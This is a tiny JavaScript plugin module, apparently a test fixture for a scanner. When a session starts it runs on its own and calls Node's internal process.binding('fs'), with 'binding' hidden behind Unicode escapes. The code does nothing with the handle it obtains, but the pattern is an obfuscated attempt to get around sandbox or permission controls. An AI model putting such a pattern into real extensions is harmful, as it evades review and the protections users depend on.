export default (pi) => {
  pi.on('session_start', () => process['\u0062\u0069\u006e\u0064\u0069\u006e\u0067']('fs'));
};
